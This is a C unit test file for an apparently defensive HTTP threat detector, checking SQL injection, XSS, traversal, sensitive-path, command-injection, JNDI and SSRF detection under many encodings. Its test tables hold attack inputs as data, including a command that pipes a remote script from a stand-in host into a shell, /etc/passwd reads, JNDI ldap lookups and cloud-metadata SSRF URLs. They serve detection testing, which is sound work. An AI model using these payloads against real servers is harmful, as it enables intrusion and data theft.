// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * http_threat: each detector with its rule name and where it fired, every
 * decoding the module promises (percent in both cases, plus, double and
 * triple encoding, overlong UTF-8, %uXXXX, fullwidth forms, HTML entities,
 * JS escapes), form and JSON bodies (whole, cut short, nested), header
 * values, the hit list contract and the bounds, then the request corpora
 * in tests/data/security/ with their known misses.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "http_threat.h"

#include "corpus.h"

/* ---- helpers ---- */

static struct threat_hit hits[THREAT__COUNT];

static size_t scan_in(const struct threat_input *in)
{
	memset(hits, 0x5a, sizeof(hits));
	return http_threat_scan(in, hits, THREAT__COUNT);
}

static size_t scan(const char *target)
{
	struct threat_input in = { .target = target, .target_len = strlen(target) };

	return scan_in(&in);
}

static const struct threat_hit *find(size_t n, enum threat_type t)
{
	for (size_t i = 0; i < n; i++)
		if (hits[i].type == t)
			return &hits[i];
	return NULL;
}

static void dump(const char *what, size_t n)
{
	print_message("  %s: %zu hit(s)\n", what, n);
	for (size_t i = 0; i < n && i < THREAT__COUNT; i++)
		print_message("    %s %s %s\n", threat_type_name(hits[i].type), hits[i].where,
			      hits[i].detail);
}

struct tcase {
	const char *target;
	enum threat_type type;
	const char *where, *detail;
};

static void expect_hit(const char *what, size_t n, enum threat_type t, const char *where,
		       const char *detail)
{
	const struct threat_hit *h = find(n, t);

	if (!h || strcmp(h->where, where) || (detail && strcmp(h->detail, detail))) {
		dump(what, n);
		fail_msg("%s: want %s in %s (%s)", what, threat_type_name(t), where,
			 detail ? detail : "any");
	}
}

static void check_cases(const struct tcase *c, size_t n)
{
	for (size_t i = 0; i < n; i++)
		expect_hit(c[i].target, scan(c[i].target), c[i].type, c[i].where, c[i].detail);
}

#define CHECK(cases) check_cases(cases, sizeof(cases) / sizeof(cases[0]))

static void expect_clean(const char *target)
{
	size_t n = scan(target);

	if (n) {
		dump(target, n);
		fail_msg("\"%s\": want no hits", target);
	}
}

/* ---- cases ---- */

static void test_names(void **state)
{
	(void)state;
	assert_string_equal(threat_type_name(THREAT_SQL_INJECTION), "sql_injection");
	assert_string_equal(threat_type_name(THREAT_XSS), "xss");
	assert_string_equal(threat_type_name(THREAT_PATH_TRAVERSAL), "path_traversal");
	assert_string_equal(threat_type_name(THREAT_SENSITIVE_PATH), "sensitive_path_access");
	assert_string_equal(threat_type_name(THREAT_COMMAND_INJECTION), "command_injection");
	assert_string_equal(threat_type_name(THREAT_SSRF), "ssrf");
	assert_string_equal(threat_type_name(THREAT__COUNT), "unknown");
}

/* Each rule of cmdi.c and ssrf.c once, where it is looked for. */
static void test_inject_rules(void **state)
{
	static const struct tcase cases[] = {
		{ "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", THREAT_COMMAND_INJECTION, "query",
		  "shell_chain" },
		{ "/ping?host=x%7C%7Cid", THREAT_COMMAND_INJECTION, "query", "shell_chain" },
		{ "/ping?host=x%0Auname%20-a", THREAT_COMMAND_INJECTION, "query", "shell_chain" },
		{ "/ping?host=x%26%26curl%20http://e.example/s.sh%7Csh", THREAT_COMMAND_INJECTION,
		  "query", "shell_chain" },
		{ "/ping?host=x;w%27h%27oami", THREAT_COMMAND_INJECTION, "query", "shell_chain" },
		{ "/ping?host=x;cat${IFS}/etc/hosts", THREAT_COMMAND_INJECTION, "query",
		  "shell_chain" },
		{ "/ping?host=x;{cat,/etc/hosts}", THREAT_COMMAND_INJECTION, "query",
		  "shell_chain" },
		{ "/ping?host=x;sleep+5", THREAT_COMMAND_INJECTION, "query", "shell_chain" },
		{ "/ping?host=x;/bin/sh", THREAT_COMMAND_INJECTION, "query", "shell_chain" },
		{ "/ping?host=x%7Csh", THREAT_COMMAND_INJECTION, "query", "shell_chain" },
		{ "/ping?host=x%3Bpython3+-c+print(1)", THREAT_COMMAND_INJECTION, "query",
		  "shell_chain" },
		{ "/ping?host=$(whoami)", THREAT_COMMAND_INJECTION, "query", "shell_subst" },
		{ "/ping?host=x`id`", THREAT_COMMAND_INJECTION, "query", "shell_subst" },
		{ "/ping?host=x;who$()ami", THREAT_COMMAND_INJECTION, "query", "shell_chain" },
		{ "/?q=${jndi:ldap://x.example/a}", THREAT_COMMAND_INJECTION, "query",
		  "jndi_lookup" },
		{ "/?q=${${lower:j}${upper:n}di:rmi://x/a}", THREAT_COMMAND_INJECTION, "query",
		  "jndi_lookup" },
		{ "/?q=${${env:NaN:-j}ndi${env:NaN:-:}dns://x/a}", THREAT_COMMAND_INJECTION,
		  "query", "jndi_lookup" },
		{ "/?q=${${date:'j'}ndi:ldap://x/a}", THREAT_COMMAND_INJECTION, "query",
		  "jndi_lookup" },
		{ "/${jndi:ldap://x/a}", THREAT_COMMAND_INJECTION, "path", "jndi_lookup" },
		{ "/fetch?url=http://169.254.169.254/latest/meta-data/", THREAT_SSRF, "query",
		  "metadata_host" },
		{ "/fetch?url=http://2852039166/", THREAT_SSRF, "query", "metadata_host" },
		{ "/fetch?url=http://[::ffff:a9fe:a9fe]/", THREAT_SSRF, "query", "metadata_host" },
		{ "/fetch?url=http://[fd00:ec2::254]/", THREAT_SSRF, "query", "metadata_host" },
		{ "/fetch?url=http://good.example%23@metadata.google.internal./", THREAT_SSRF,
		  "query", "metadata_host" },
		{ "/fetch?url=http://169.254.169.254%23@good.example/", THREAT_SSRF, "query",
		  "metadata_host" },
		{ "/fetch?url=http://127.1:8080/", THREAT_SSRF, "query", "loopback_disguised" },
		{ "/fetch?url=http://[::]/", THREAT_SSRF, "query", "loopback_disguised" },
		{ "/fetch?url=http://localhost:6379/", THREAT_SSRF, "query", "loopback_service" },
		{ "/fetch?url=gopher://10.0.0.1:6379/_x", THREAT_SSRF, "query", "gopher_scheme" },
		{ "/fetch?url=file:///etc/hosts", THREAT_SSRF, "query", "file_scheme" },
		{ "/fetch?url=jar:http://e.example/x.jar!/", THREAT_SSRF, "query", "jar_scheme" },
		{ "/proxy/http://169.254.169.254/latest", THREAT_SSRF, "path", "metadata_host" },
	};
	static const char *const clean[] = {
		"/search?q=Tom+%26+Jerry%3B+cat+lovers",
		"/search?q=run+%60ls+-la%60+to+list+files",
		"/search?q=ping+pong",
		"/search?q=React+%26+Node",
		"/search?q=Django+%26+Python",
		"/search?q=Ctrl+%26+Cmd",
		"/search?q=Zsh+%26+Bash",
		"/search?q=Tom+%26+id",
		"/search?q=x+%7C+more",
		"/oauth/cb?redirect_uri=http://localhost:3000/callback",
		"/oauth/cb?redirect_uri=http://127.0.0.1:8080/cb",
		"/hook?url=https://hooks.example.com/x",
		"/cfg?redis=redis://localhost:6379/0",
		"/search?q=file://+urls",
		"/search?q=the+metadata+service+at+169.254.169.254",
		"/search?q=%24%7BHOME%7D",
		"/products;jsessionid=0A1B2C?sort=name;order=asc",
	};

	(void)state;
	CHECK(cases);
	for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++)
		expect_clean(clean[i]);
	/* a lookup's ldap:// URL is the lookup's, not a second finding */
	assert_int_equal(scan("/?q=${jndi:ldap://10.0.0.1/a}"), 1);
}

/* Headers: Log4Shell in any, shellshock in the User-Agent; cookies and
 * agents with ';' are not shell. */
static void test_inject_headers(void **state)
{
	static const char *const jndi[] = { "Mozilla/5.0", "${jndi:ldap://x.example/a}", NULL };
	static const char *const shock[] = { "() { :; }; /bin/bash -c 'id'", NULL };
	static const char *const benign[] = {
		"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
		"sid=42; id=7; theme=dark", NULL
	};
	struct threat_input in = { .target = "/", .target_len = 1 };

	(void)state;
	in.header_values = jndi;
	expect_hit("jndi header", scan_in(&in), THREAT_COMMAND_INJECTION, "header", "jndi_lookup");
	in.header_values = shock;
	expect_hit("shellshock", scan_in(&in), THREAT_COMMAND_INJECTION, "header", "shellshock");
	in.header_values = benign;
	assert_int_equal(scan_in(&in), 0);
}

/* A long JSON string is text someone wrote (an LLM prompt): shell syntax
 * there is a topic; a short field value is still checked, and lookups
 * everywhere. */
static void test_inject_json(void **state)
{
	static const char prompt[] =
		"{\"messages\":[{\"role\":\"user\",\"content\":\"My script does cd /tmp && ls -la "
		"and then runs `cat /etc/hosts`; why does it fail?\"}]}";
	static const char field[] = "{\"host\":\"127.0.0.1; cat /etc/passwd\"}";
	static const char lookup[] =
		"{\"content\":\"Please summarise this log line for me: user agent was "
		"${jndi:ldap://x.example/a} today\"}";
	struct threat_input in = { .target = "/v1/chat", .target_len = 8 };

	(void)state;
	in.content_type = "application/json";
	in.body = prompt, in.body_len = strlen(prompt);
	assert_int_equal(scan_in(&in), 0);
	in.body = field, in.body_len = strlen(field);
	expect_hit("json field", scan_in(&in), THREAT_COMMAND_INJECTION, "body", "shell_chain");
	in.body = lookup, in.body_len = strlen(lookup);
	expect_hit("json lookup", scan_in(&in), THREAT_COMMAND_INJECTION, "body", "jndi_lookup");
}

static void test_sqli(void **state)
{
	static const struct tcase cases[] = {
		{ "/item?id=1%27%20OR%20%271%27%3D%271", THREAT_SQL_INJECTION, "query",
		  "tautology" },
		{ "/item?id=1'+UNION+SELECT+1,2--+", THREAT_SQL_INJECTION, "query", "union" },
		{ "/item?id=1%3BDROP%20TABLE%20users", THREAT_SQL_INJECTION, "query", "stacked" },
		{ "/item?id=1+AND+SLEEP(5)", THREAT_SQL_INJECTION, "query", "time" },
		{ "/login?user=admin%27--&pass=x", THREAT_SQL_INJECTION, "query", "comment" },
		/* double and triple percent encoding */
		{ "/item?id=1%2527%2520OR%25201%253D1--", THREAT_SQL_INJECTION, "query",
		  "tautology" },
		{ "/item?id=1%252527%252520OR%2525201%25253D1--", THREAT_SQL_INJECTION, "query",
		  NULL },
		/* %uXXXX, overlong and fullwidth quotes */
		{ "/item?id=1%u0027%20OR%201=1--", THREAT_SQL_INJECTION, "query", NULL },
		{ "/item?id=1%c0%a7%20OR%201=1--", THREAT_SQL_INJECTION, "query", NULL },
		{ "/item?id=%EF%BC%871%EF%BC%87%20OR%20%EF%BC%871%EF%BC%87%3D%EF%BC%871",
		  THREAT_SQL_INJECTION, "query", NULL },
		/* newline as the space between keywords; comment to end of line */
		{ "/item?id=1%0AUNION%0ASELECT%201,2", THREAT_SQL_INJECTION, "query", "union" },
		{ "/item?id=1%20UNION%23x%0ASELECT%201,2", THREAT_SQL_INJECTION, "query", "union" },
		/* the parameter name, a name-only parameter, a path segment */
		{ "/item?id%27%20OR%201%3D1--=1", THREAT_SQL_INJECTION, "query", NULL },
		{ "/item?1%27%20OR%20%271%27%3D%271", THREAT_SQL_INJECTION, "query", NULL },
		{ "/api/items/1%27%20OR%20%271%27%3D%271", THREAT_SQL_INJECTION, "path", NULL },
		/* absolute-form target */
		{ "http://example.com/item?id=1+AND+1=2", THREAT_SQL_INJECTION, "query",
		  "tautology" },
	};

	(void)state;
	CHECK(cases);
	/* '+' is a space in a query but not in a path */
	expect_clean("/api/items/1+UNION+SELECT+1,2");
}

static void test_xss(void **state)
{
	static const struct tcase cases[] = {
		{ "/s?q=<script>alert(1)</script>", THREAT_XSS, "query", "script_tag" },
		{ "/s?q=%3CScRiPt%3Ealert(1)%3C%2Fscript%3E", THREAT_XSS, "query", "script_tag" },
		{ "/s?q=<img+src=x+onerror=alert(1)>", THREAT_XSS, "query", "event_handler" },
		{ "/s?q=<svg/onload=alert(1)>", THREAT_XSS, "query", "event_handler" },
		{ "/s?q=<iframe+src=x>", THREAT_XSS, "query", "dangerous_tag" },
		{ "/s?url=javascript:alert(1)", THREAT_XSS, "query", "js_uri" },
		{ "/s?url=java%09script:alert(1)", THREAT_XSS, "query", "js_uri" },
		{ "/s?url=%20JaVaScRiPt:alert`1`", THREAT_XSS, "query", "js_uri" },
		{ "/s?u=data:text/html;base64,PHNjcmlwdD4=", THREAT_XSS, "query", "data_uri" },
		{ "/s?q=%22+onmouseover=%22alert(1)", THREAT_XSS, "query", "attr_event" },
		{ "/s?q=%27%3Balert(1)%2F%2F", THREAT_XSS, "query", "js_call" },
		{ "/s?q=%27-prompt(1)-%27", THREAT_XSS, "query", "js_call" },
		/* entities, with and without ';', numeric and named; JS escapes */
		{ "/s?q=%26lt%3Bscript%26gt%3B", THREAT_XSS, "query", "script_tag" },
		{ "/s?q=%26%2360script%26%2362", THREAT_XSS, "query", "script_tag" },
		{ "/s?q=%26%23x3C%3Bscript%3E", THREAT_XSS, "query", "script_tag" },
		{ "/s?q=%3Ca%20href%3Djavas%26%2399%3Bript%3Aalert(1)%3E", THREAT_XSS, "query",
		  "js_uri" },
		{ "/s?q=\\x3cscript\\x3e", THREAT_XSS, "query", "script_tag" },
		{ "/s?q=\\u003cscript\\u003e", THREAT_XSS, "query", "script_tag" },
		/* fullwidth and overlong angle brackets, double encoding */
		{ "/s?q=%EF%BC%9Cscript%EF%BC%9E", THREAT_XSS, "query", "script_tag" },
		{ "/s?q=%C0%BCscript%C0%BE", THREAT_XSS, "query", "script_tag" },
		{ "/s?q=%253Cscript%253E", THREAT_XSS, "query", "script_tag" },
		/* in the path, split over '=' in the query */
		{ "/search/%3Cscript%3Ealert(1)%3C/script%3E", THREAT_XSS, "path", "script_tag" },
		{ "/?<img+src=x+onerror=alert(1)>=1", THREAT_XSS, "query", "event_handler" },
	};
	static const char *const benign[] = {
		"/s?q=x+%3C+y+and+y+%3E+z",
		"/s?q=%3C3",
		"/s?q=a%3Cb",
		"/s?q=%3Cb%3Ebold%3C%2Fb%3E",
		"/s?q=%3Cname%40example.com%3E",
		"/s?q=Javascript%3A+The+Good+Parts",
		"/s?q=use+javascript%3Avoid(0)+in+links",
		"/s?q=the+onclick+attribute",
		"/s?q=set+onclick%3D%27handler()%27",
		"/s?q=alert+the+team",
		"/s?q=%27alert(1)%27",
		"/s?q=%3C!--+comment+--%3E",
		"/s?q=%3Cobject%3E+is+required",
		"/page#<script>alert(1)</script>", /* a fragment never reaches the server */
	};

	(void)state;
	CHECK(cases);
	for (size_t i = 0; i < sizeof(benign) / sizeof(benign[0]); i++)
		expect_clean(benign[i]);
}

static void test_traversal(void **state)
{
	static const struct tcase cases[] = {
		{ "/static/../../../etc/passwd", THREAT_PATH_TRAVERSAL, "path", "dotdot" },
		{ "/f?file=../../etc/passwd", THREAT_PATH_TRAVERSAL, "query", "dotdot" },
		{ "/f?file=..\\..\\windows\\win.ini", THREAT_PATH_TRAVERSAL, "query", "dotdot" },
		{ "/f?file=%2e%2e%2f%2e%2e%2fetc", THREAT_PATH_TRAVERSAL, "query",
		  "dotdot_encoded" },
		{ "/f?file=%2E%2E%2F", THREAT_PATH_TRAVERSAL, "query", "dotdot_encoded" },
		{ "/f?file=..%5c..%5cboot.ini", THREAT_PATH_TRAVERSAL, "query", "dotdot_encoded" },
		{ "/f?file=..%252f..%252fetc", THREAT_PATH_TRAVERSAL, "query", "dotdot_double" },
		{ "/f?file=%25252e%25252e%25252fetc", THREAT_PATH_TRAVERSAL, "query",
		  "dotdot_double" },
		{ "/f?file=..%c0%af..%c0%afetc", THREAT_PATH_TRAVERSAL, "query",
		  "dotdot_overlong" },
		{ "/f?file=%c0%ae%c0%ae/etc", THREAT_PATH_TRAVERSAL, "query", "dotdot_overlong" },
		{ "/f?file=%e0%80%ae%e0%80%ae/etc", THREAT_PATH_TRAVERSAL, "query",
		  "dotdot_overlong" },
		{ "/f?file=%uff0e%uff0e%u2215etc", THREAT_PATH_TRAVERSAL, "query",
		  "dotdot_unicode" },
		{ "/f?file=....//....//etc/passwd", THREAT_PATH_TRAVERSAL, "query", "dotdot" },
		{ "/f?file=..;/..;/etc/passwd", THREAT_PATH_TRAVERSAL, "query", "dotdot" },
		{ "/f?file=report.pdf%00.jpg", THREAT_PATH_TRAVERSAL, "query", "null_byte" },
		{ "/f?file=/etc/passwd", THREAT_PATH_TRAVERSAL, "query", "system_file" },
		{ "/f?file=C:%5CWindows%5Cwin.ini", THREAT_PATH_TRAVERSAL, "query", "system_file" },
		{ "/%2e%2e/%2e%2e/etc/passwd", THREAT_PATH_TRAVERSAL, "path", "dotdot_encoded" },
		{ "/x/%00", THREAT_PATH_TRAVERSAL, "path", "null_byte" },
	};
	static const char *const benign[] = {
		"/a/b/../c",
		"/a/./b/./c",
		"/docs/guide/../index.html",
		"/f?file=a/../b",
		"/f?file=..",
		"/f?file=...",
		"/f?file=..hidden",
		"/f?file=a..b",
		"/f?q=what+does+..%2F+mean", /* ".." inside a word, not a segment */
		"/f?file=docs/intro.md",
		"/f?q=edit+/etc/hosts",
	};

	(void)state;
	CHECK(cases);
	for (size_t i = 0; i < sizeof(benign) / sizeof(benign[0]); i++)
		expect_clean(benign[i]);
}

static void test_sensitive(void **state)
{
	static const struct tcase cases[] = {
		{ "/.env", THREAT_SENSITIVE_PATH, "path", ".env" },
		{ "/app/.ENV", THREAT_SENSITIVE_PATH, "path", ".env" },
		{ "/%2eenv", THREAT_SENSITIVE_PATH, "path", ".env" },
		{ "/.env.production", THREAT_SENSITIVE_PATH, "path", ".env.*" },
		{ "/.env;.css", THREAT_SENSITIVE_PATH, "path", ".env" },
		{ "/.git/config", THREAT_SENSITIVE_PATH, "path", ".git" },
		{ "/.GIT/HEAD", THREAT_SENSITIVE_PATH, "path", ".git" },
		{ "/.svn/entries", THREAT_SENSITIVE_PATH, "path", ".svn" },
		{ "/.aws/credentials", THREAT_SENSITIVE_PATH, "path", ".aws/credentials" },
		{ "/etc/passwd", THREAT_SENSITIVE_PATH, "path", "etc/passwd" },
		{ "/etc/shadow", THREAT_SENSITIVE_PATH, "path", "etc/shadow" },
		{ "/wp-admin/", THREAT_SENSITIVE_PATH, "path", "wp-admin" },
		{ "/blog/wp-login.php", THREAT_SENSITIVE_PATH, "path", "wp-login.php" },
		{ "/phpMyAdmin/index.php", THREAT_SENSITIVE_PATH, "path", "phpmyadmin" },
		{ "/server-status", THREAT_SENSITIVE_PATH, "path", "server-status" },
		{ "/.DS_Store", THREAT_SENSITIVE_PATH, "path", ".DS_Store" },
		{ "/config.php.bak", THREAT_SENSITIVE_PATH, "path", "config.php.bak" },
		{ "/index.php.bak", THREAT_SENSITIVE_PATH, "path", "*.bak" },
		{ "/id_rsa", THREAT_SENSITIVE_PATH, "path", "id_rsa" },
		{ "/.ssh/id_rsa", THREAT_SENSITIVE_PATH, "path", ".ssh" },
		{ "/wp-config.php~", THREAT_SENSITIVE_PATH, "path", "*~" },
		{ "http://h/.git/HEAD?x=1", THREAT_SENSITIVE_PATH, "path", ".git" },
		/* one per first letter of a segment the table knows (only those are searched) */
		{ "/Actuator/Env", THREAT_SENSITIVE_PATH, "path", "actuator/env" },
		{ "/lib/vendor/phpunit/src", THREAT_SENSITIVE_PATH, "path", "vendor/phpunit" },
		{ "/manager/html", THREAT_SENSITIVE_PATH, "path", "manager/html" },
		{ "/x/y/xmlrpc.php", THREAT_SENSITIVE_PATH, "path", "xmlrpc.php" },
		{ "/dump.sql", THREAT_SENSITIVE_PATH, "path", "dump.sql" },
		{ "/trace.axd", THREAT_SENSITIVE_PATH, "path", "trace.axd" },
		{ "/jmx-console/", THREAT_SENSITIVE_PATH, "path", "jmx-console" },
		{ "/app/_profiler/latest", THREAT_SENSITIVE_PATH, "path", "_profiler" },
		{ "/a/b/proc/self/environ", THREAT_SENSITIVE_PATH, "path", "proc/self" },
		{ "/WEB-INF/web.xml", THREAT_SENSITIVE_PATH, "path", "web-inf" },
	};
	static const char *const benign[] = {
		"/environment",	   "/env",	  "/static/env.js",  "/.well-known/security.txt",
		"/docs/git/intro", "/.gitignore", "/wp-admin-guide", "/search?q=.env",
		"/~alice/",	   "/etc",	  "/backup",	     "/api/.envoy",
		"/r/xabc",	   "/procedures", "/vendors/list",   "/trace",
	};

	(void)state;
	CHECK(cases);
	for (size_t i = 0; i < sizeof(benign) / sizeof(benign[0]); i++)
		expect_clean(benign[i]);
}

static void test_body(void **state)
{
	static const char form[] = "user=admin&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
	static const char form_plus[] = "q=1'+OR+'1'%3D'1";
	static const char json[] =
		"{\"name\":\"x\",\"items\":[{\"note\":\"' UNION SELECT NULL--\"}],\"n\":1}";
	static const char json_key[] = "{\"<script>alert(1)</script>\":1}";
	static const char json_esc[] = "{\"q\":\"1\\u0027 OR \\u00271\\u0027=\\u00271\"}";
	static const char json_cut[] = "{\"a\":\"ok\",\"file\":\"../../etc/passwd\",\"b\":\"unfini";
	static const char benign_json[] =
		"{\"name\":\"O'Brien\",\"query\":\"select a union rep\",\"n\":[1,2,3]}";
	struct threat_input in = { .target = "/submit", .target_len = 7 };
	size_t n;

	(void)state;
	in.content_type = "application/x-www-form-urlencoded; charset=UTF-8";
	in.body = form, in.body_len = strlen(form);
	n = scan_in(&in);
	expect_hit("form", n, THREAT_XSS, "body", "script_tag");
	in.body = form_plus, in.body_len = strlen(form_plus);
	expect_hit("form +", scan_in(&in), THREAT_SQL_INJECTION, "body", "tautology");

	in.content_type = "application/json";
	in.body = json, in.body_len = strlen(json);
	expect_hit("json", scan_in(&in), THREAT_SQL_INJECTION, "body", "union");
	in.body = json_key, in.body_len = strlen(json_key);
	expect_hit("json key", scan_in(&in), THREAT_XSS, "body", "script_tag");
	in.body = json_esc, in.body_len = strlen(json_esc);
	expect_hit("json escapes", scan_in(&in), THREAT_SQL_INJECTION, "body", "tautology");
	/* cut short: jansson refuses it, its strings are still read */
	in.body = json_cut, in.body_len = strlen(json_cut);
	expect_hit("json cut", scan_in(&in), THREAT_PATH_TRAVERSAL, "body", "dotdot");
	in.content_type = "application/vnd.api+json";
	in.body = benign_json, in.body_len = strlen(benign_json);
	assert_int_equal(scan_in(&in), 0);

	/* no content type: sniffed */
	in.content_type = NULL;
	in.body = json, in.body_len = strlen(json);
	expect_hit("json sniffed", scan_in(&in), THREAT_SQL_INJECTION, "body", "union");
	in.body = form, in.body_len = strlen(form);
	expect_hit("form sniffed", scan_in(&in), THREAT_XSS, "body", "script_tag");
	/* other types are not parsed */
	in.content_type = "text/plain";
	assert_int_equal(scan_in(&in), 0);
	in.content_type = "multipart/form-data; boundary=x";
	assert_int_equal(scan_in(&in), 0);
	/* body_len 0 or NULL body */
	in.content_type = "application/json";
	in.body = json, in.body_len = 0;
	assert_int_equal(scan_in(&in), 0);
	in.body = NULL, in.body_len = 100;
	assert_int_equal(scan_in(&in), 0);
}

static void test_json_bounds(void **state)
{
	size_t depth = 200, n = 0, cap = depth * 2 + 64;
	char *b = malloc(cap);
	struct threat_input in = { .target = "/",
				   .target_len = 1,
				   .content_type = "application/json" };

	(void)state;
	assert_non_null(b);
	/* nesting deeper than the walk goes: the payload at the bottom is not reached */
	for (size_t i = 0; i < depth; i++)
		b[n++] = '[';
	n += (size_t)snprintf(b + n, cap - n, "\"<script>\"");
	for (size_t i = 0; i < depth; i++)
		b[n++] = ']';
	in.body = b, in.body_len = n;
	assert_int_equal(scan_in(&in), 0);
	/* shallow: found */
	n = (size_t)snprintf(b, cap, "[[[\"<script>\"]]]");
	in.body_len = n;
	expect_hit("shallow", scan_in(&in), THREAT_XSS, "body", "script_tag");
	free(b);
}

static void test_headers(void **state)
{
	static const char *const ua_sqlmap[] = { "sqlmap/1.7' AND SLEEP(5) AND 'a'='a", NULL };
	static const char *const cookie[] = { "Mozilla/5.0",
					      "session=abc123; theme=dark; id=1%27%20OR%201%3D1--",
					      NULL };
	static const char *const referer[] = {
		"https://example.com/search?q=%3Cscript%3Ealert(1)%3C/script%3E", NULL
	};
	static const char *const benign[] = {
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
		"Chrome/120.0.0.0 Safari/537.36",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"curl/8.5.0",
		"https://example.com/search?q=O%27Brien&page=2",
		"session=abc; _ga=GA1.2.3.4; prefs=%7B%22theme%22%3A%22dark%22%7D",
		"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
		"en-GB,en;q=0.9",
		NULL,
	};
	struct threat_input in = { .target = "/", .target_len = 1 };

	(void)state;
	in.header_values = ua_sqlmap;
	expect_hit("ua", scan_in(&in), THREAT_SQL_INJECTION, "header", "time");
	in.header_values = cookie;
	expect_hit("cookie", scan_in(&in), THREAT_SQL_INJECTION, "header", "tautology");
	in.header_values = referer;
	expect_hit("referer", scan_in(&in), THREAT_XSS, "header", "script_tag");
	in.header_values = benign;
	assert_int_equal(scan_in(&in), 0);
}

static void test_hit_list(void **state)
{
	/* all four in one request */
	static const char t[] = "/../../.env?q=<script>x</script>&id=1%20AND%201=2";
	struct threat_input in = { .target = t, .target_len = strlen(t) };
	struct threat_hit two[2];
	size_t n;

	(void)state;
	n = scan_in(&in);
	assert_int_equal(n, 4);
	/* enum order, one per type, terminated strings */
	for (size_t i = 0; i < n; i++) {
		assert_int_equal(hits[i].type, (enum threat_type)i);
		assert_non_null(memchr(hits[i].where, '\0', sizeof(hits[i].where)));
		assert_non_null(memchr(hits[i].detail, '\0', sizeof(hits[i].detail)));
	}
	assert_string_equal(hits[THREAT_SQL_INJECTION].where, "query");
	assert_string_equal(hits[THREAT_PATH_TRAVERSAL].detail, "dotdot");
	assert_string_equal(hits[THREAT_SENSITIVE_PATH].detail, ".env");
	/* fewer slots: the count stays, only max are written */
	memset(two, 0, sizeof(two));
	assert_int_equal(http_threat_scan(&in, two, 2), 4);
	assert_int_equal(two[0].type, THREAT_SQL_INJECTION);
	assert_int_equal(two[1].type, THREAT_XSS);
	assert_int_equal(http_threat_scan(&in, NULL, 0), 4);
	assert_int_equal(http_threat_scan(&in, NULL, 4), 4);
	assert_int_equal(http_threat_scan(NULL, hits, 4), 0);
	/* first hit of a type wins: path before query */
	n = scan("/a%27%20OR%201%3D1--?id=1%3BDROP%20TABLE%20t");
	expect_hit("first", n, THREAT_SQL_INJECTION, "path", "tautology");
	/* nothing at all */
	in.target = NULL, in.target_len = 0;
	assert_int_equal(scan_in(&in), 0);
	assert_int_equal(scan(""), 0);
	assert_int_equal(scan("*"), 0);
}

static void test_bounds(void **state)
{
	size_t big = 3 * 8192;
	char *t = malloc(big + 64);
	size_t n;

	(void)state;
	assert_non_null(t);
	/* past the examined part of the target: not seen */
	memcpy(t, "/x?a=", 5);
	memset(t + 5, 'b', big - 5);
	memcpy(t + big - 20, "&q=<script>", 11);
	assert_int_equal(http_threat_scan(&(struct threat_input){ .target = t, .target_len = big },
					  hits, THREAT__COUNT),
			 0);
	/* a value longer than the per-value limit: its start is seen */
	n = (size_t)snprintf(t, big, "/x?q=<script>");
	memset(t + n, 'c', big - n);
	expect_hit("long value",
		   http_threat_scan(&(struct threat_input){ .target = t, .target_len = big }, hits,
				    THREAT__COUNT),
		   THREAT_XSS, "query", "script_tag");
	/* more pairs than are examined: the late one is not seen */
	n = (size_t)snprintf(t, big, "/x?");
	for (int i = 0; i < 100; i++)
		n += (size_t)snprintf(t + n, big - n, "a%d=1&", i);
	n += (size_t)snprintf(t + n, big - n, "id=1%%20AND%%201=2");
	assert_int_equal(scan(t), 0);
	free(t);
}

static void test_garbage(void **state)
{
	unsigned char buf[600];
	uint32_t x = 99;
	struct threat_hit a[THREAT__COUNT], b[THREAT__COUNT];

	(void)state;
	for (int round = 0; round < 3000; round++) {
		size_t n = 1 + round % sizeof(buf), k1, k2;
		struct threat_input in = { .target = (const char *)buf, .target_len = n };

		for (size_t i = 0; i < n; i++) {
			x = x * 1103515245u + 12345u;
			buf[i] =
				(unsigned char)("%2e5c/\\.?&=<>'\"; aO0\xc0\xae\xef\xbc"[(x >> 16) %
											 24]);
		}
		if (round & 1) {
			in.body = (const char *)buf, in.body_len = n;
			in.content_type = round & 2 ? "application/json" : NULL;
		}
		memset(a, 0, sizeof(a));
		memset(b, 0, sizeof(b));
		k1 = http_threat_scan(&in, a, THREAT__COUNT);
		k2 = http_threat_scan(&in, b, THREAT__COUNT);
		assert_int_equal(k1, k2);
		assert_true(k1 <= THREAT__COUNT);
		assert_memory_equal(a, b, sizeof(a));
		for (size_t i = 0; i < k1; i++) {
			assert_true((unsigned)a[i].type < THREAT__COUNT);
			assert_true(i == 0 || a[i].type > a[i - 1].type);
		}
	}
}

/* ---- corpora ---- */

struct hclass {
	const char *file;
	enum threat_type type;
	double min_detect;
	size_t min_lines;
};

static const struct hclass hclasses[] = {
	{ "http_sqli.txt", THREAT_SQL_INJECTION, 0.98, 90 },
	{ "http_xss.txt", THREAT_XSS, 0.97, 100 },
	{ "http_traversal.txt", THREAT_PATH_TRAVERSAL, 0.98, 70 },
	{ "http_sensitive.txt", THREAT_SENSITIVE_PATH, 0.98, 90 },
	{ "http_cmdi.txt", THREAT_COMMAND_INJECTION, 0.90, 100 },
	{ "http_ssrf.txt", THREAT_SSRF, 0.90, 80 },
};

static void test_corpus_attacks(void **state)
{
	struct corpus km, c;
	char tag[128];

	(void)state;
	corpus_load(&km, "known_misses.txt");
	for (size_t k = 0; k < sizeof(hclasses) / sizeof(hclasses[0]); k++) {
		size_t hit = 0;

		corpus_load(&c, hclasses[k].file);
		snprintf(tag, sizeof(tag), "http:%s", hclasses[k].file);
		check_no_stale(&km, tag, &c);
		for (size_t i = 0; i < c.n; i++) {
			size_t n = scan(c.lines[i]);
			bool d = find(n, hclasses[k].type) != NULL,
			     miss = known(&km, tag, c.lines[i]);

			if (d == miss) {
				dump(c.lines[i], n);
				fail_msg("%s: \"%s\" %s (known_misses.txt %s)", hclasses[k].file,
					 c.lines[i], d ? "detected" : "missed",
					 miss ? "lists it: remove it" : "does not list it");
			}
			hit += d;
		}
